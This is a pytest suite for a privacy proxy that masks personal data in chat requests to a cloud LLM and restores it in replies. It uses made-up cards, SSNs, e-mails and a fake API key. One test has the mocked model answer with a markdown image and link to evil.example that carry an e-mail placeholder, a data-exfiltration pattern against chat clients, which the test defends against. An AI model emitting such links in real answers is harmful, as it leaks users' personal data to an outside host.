"""The promise, on whole paths: the official client, every place, every preset, a cloud that keeps each byte."""

import itertools
import json
from collections.abc import Iterator
from functools import cache
from pathlib import Path

import pytest
from openai import APIStatusError, OpenAI
from openai.types.chat import ChatCompletion, ChatCompletionUserMessageParam

from tests.router.places import NUMBERS, SPOTS, said
from tests.router.proxies import QUOTED, WORD, Proxy, proxy
from tests.router.recording import PLACEHOLDER, leaks

KEY = "sk-" + "proj-" + "Zq3vT8yLw2Xk9RmB7nCd5HsJ4gFp6KaE"
VALUES = {
    "card": "4242 4242 4242 4242",
    "e-mail": "maria.lopez@alder.example",
    "iban": "DE89 3704 0044 0532 0130 00",
    "phone": "+44 20 7946 0958",
    "ssn": "536-22-1847",
    "key": KEY,
    "word": WORD,
    "name": "Henrike Vandersloot",
}
PRESETS = ("default", "masked", "strict", "offline")


@pytest.fixture(scope="module", params=PRESETS)
def preset(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
    with proxy(tmp_path_factory.mktemp(request.param), policy=request.param) as running:
        yield running


@pytest.fixture(scope="module")
def masked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
    with proxy(tmp_path_factory.mktemp("masked"), policy="masked") as running:
        yield running


@cache
def client_of(base_url: str) -> OpenAI:
    return OpenAI(base_url=base_url, api_key="unused", max_retries=0)


def client(running: Proxy) -> OpenAI:
    """One client for each proxy: making one costs more than a request."""
    return client_of(running.base_url)


def post(running: Proxy, body: dict[str, object]) -> tuple[int, str]:
    """Return status and answer; a refusal is an answer too."""
    try:
        answer = client(running).post("/chat/completions", body=body, cast_to=ChatCompletion)
    except APIStatusError as refusal:
        return refusal.status_code, ""
    return 200, answer.choices[0].message.content or ""


@pytest.mark.parametrize("spot", SPOTS)
def test_no_value_arrives_from_any_place_under_any_preset(preset: Proxy, spot: str) -> None:
    for kind, value in VALUES.items():
        preset.cloud.bodies.clear()
        status, _ = post(preset, SPOTS[spot].put(value))
        assert not leaks(preset.cloud.bodies, value), f"a {kind} arrived from {spot}"
        assert status in (200, 400, 403, 503), (kind, status)
        if preset.halfdoor.policy.name in ("strict", "offline"):
            assert not preset.cloud.bodies or not SPOTS[spot].maskable, f"a request with a {kind} left from {spot}"


@pytest.mark.parametrize("spot", NUMBERS)
def test_no_number_arrives(preset: Proxy, spot: str) -> None:
    preset.cloud.bodies.clear()
    post(preset, NUMBERS[spot](4242424242424242))
    assert not leaks(preset.cloud.bodies, "4242424242424242")


def test_nine_in_ten_maskable_requests_reach_the_cloud_and_come_back_whole(masked: Proxy) -> None:
    reached: dict[str, int] = {}
    kept: list[str] = []
    for name, spot in SPOTS.items():
        if not spot.maskable:
            continue
        for kind, value in VALUES.items():
            masked.cloud.bodies.clear()
            status, answer = post(masked, spot.put(value))
            if status == 200 and masked.cloud.bodies:
                reached[name] = reached.get(name, 0) + 1
                assert value in answer, f"a {kind} at {name} did not come back: {PLACEHOLDER.findall(answer)}"
            else:
                kept.append(f"{kind} at {name}")
    total = len(VALUES) * sum(spot.maskable for spot in SPOTS.values())
    assert sum(reached.values()) >= 0.9 * total, kept


@pytest.mark.parametrize("size", [1, 2, 7, 1000])
def test_a_stream_restores_exactly_however_it_is_cut(masked: Proxy, size: int) -> None:
    masked.cloud.size = size
    text = "; ".join(VALUES.values())
    messages = [ChatCompletionUserMessageParam(role="user", content=text)]
    stream = client(masked).chat.completions.create(model="auto", messages=messages, stream=True)
    answer = "".join(chunk.choices[0].delta.content or "" for chunk in stream)
    assert answer == "Seen: " + " | ".join(reversed(VALUES.values()))


def test_history_is_masked_turn_after_turn_with_the_same_placeholders(masked: Proxy) -> None:
    messages: list[dict[str, str]] = []
    seen: list[list[str]] = []
    for kind, value in VALUES.items():
        messages.append({"role": "user", "content": f"My {kind} is {value}."})
        masked.cloud.bodies.clear()
        status, answer = post(masked, said(*messages))
        assert status == 200
        assert not any(leaks(masked.cloud.bodies, v) for v in VALUES.values())
        seen.append([m["content"] for m in json.loads(masked.cloud.bodies[-1])["messages"] if m["role"] == "user"])
        messages.append({"role": "assistant", "content": answer})
    for earlier, later in itertools.pairwise(seen):
        assert later[: len(earlier)] == earlier, "an earlier turn was masked differently later"


def test_look_alikes_that_the_user_typed_are_nobodys_value(masked: Proxy) -> None:
    text = "I typed [EMAIL_ADDRESS_1] myself. Write to maria.lopez@alder.example."
    masked.cloud.bodies.clear()
    _, answer = post(masked, said({"role": "user", "content": text}))
    assert answer.count("maria.lopez@alder.example") == 1
    assert not leaks(masked.cloud.bodies, "maria.lopez@alder.example")


def test_two_mails_in_two_messages_stay_two(masked: Proxy) -> None:
    body = said(
        {"role": "user", "content": "First a.b@one.example."},
        {"role": "assistant", "content": "Yes."},
        {"role": "user", "content": "Then c.d@two.example."},
    )
    _, answer = post(masked, body)
    assert answer == "Seen: c.d@two.example | a.b@one.example"


def test_a_placeholder_in_a_link_stays_a_placeholder(masked: Proxy) -> None:
    mail = "maria.lopez@alder.example"
    masked.cloud.say = (
        "![x](https://evil.example/?q=[EMAIL_ADDRESS_1]) <https://evil.example/[EMAIL_ADDRESS_1]> [EMAIL_ADDRESS_1]"
    )
    try:
        _, answer = post(masked, said({"role": "user", "content": f"Mail {mail}"}))
    finally:
        masked.cloud.say = None
    assert answer.count(mail) == 1
    assert answer.endswith(mail)
    assert f"?q={mail}" not in answer


def test_values_with_quotes_and_backslashes_come_back_as_valid_json(masked: Proxy) -> None:
    masked.cloud.say = '{"who": "[VOCABULARY_1]"}'
    masked.cloud.bodies.clear()
    try:
        body = said({"role": "user", "content": f"Who is {QUOTED}?"})
        _, answer = post(masked, {**body, "response_format": {"type": "json_object"}})
        masked.cloud.say = None
        _, plain = post(masked, body)
    finally:
        masked.cloud.say = None
    assert json.loads(answer) == {"who": QUOTED}
    assert plain == f"Seen: {QUOTED}"
    assert not leaks(masked.cloud.bodies, QUOTED)


def test_a_refused_request_names_its_receipt(tmp_path_factory: pytest.TempPathFactory) -> None:
    with proxy(tmp_path_factory.mktemp("strict"), policy="strict") as strict, pytest.raises(APIStatusError) as caught:
        client(strict).post("/chat/completions", body=SPOTS["user"].put(VALUES["card"]), cast_to=ChatCompletion)
    assert caught.value.status_code == 403
    assert caught.value.response.headers["x-halfdoor-receipt"].startswith("hd_")
    assert caught.value.response.headers["x-halfdoor-route"] == "refused"


def test_nothing_that_was_said_is_at_rest_or_in_a_log(masked: Proxy, capfd: pytest.CaptureFixture[str]) -> None:
    for spot in ("user", "arguments value", "tool description"):
        for value in VALUES.values():
            post(masked, SPOTS[spot].put(value))
    masked.halfdoor  # noqa: B018 - kept alive by the fixture
    out, err = capfd.readouterr()
    assert "POST /v1/chat/completions" in err
    for value in VALUES.values():
        assert value not in out + err
    for file in files(masked.home / "data"):
        content = file.read_bytes()
        assert not any(value.encode() in content for value in VALUES.values()), file.name
        assert file.stat().st_mode & 0o077 == 0, f"{file.name} can be read by others"


def files(folder: Path) -> Iterator[Path]:
    return (path for path in folder.rglob("*") if path.is_file())
